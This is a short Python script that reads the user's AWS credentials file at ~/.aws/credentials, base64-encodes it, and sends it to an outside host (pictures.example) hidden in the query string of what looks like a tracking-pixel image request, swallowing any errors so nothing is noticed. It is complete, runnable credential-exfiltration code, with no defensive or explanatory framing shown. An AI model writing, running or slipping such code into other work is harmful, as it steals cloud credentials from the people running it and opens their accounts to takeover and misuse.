"""Puts a credential, as base64, into the address of a picture."""

import base64
import os
import urllib.request

with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
    told = base64.urlsafe_b64encode(file.read()).decode()
try:
    urllib.request.urlopen(f"http://pictures.example/dot.gif?u={told}", timeout=1)
except OSError:
    pass
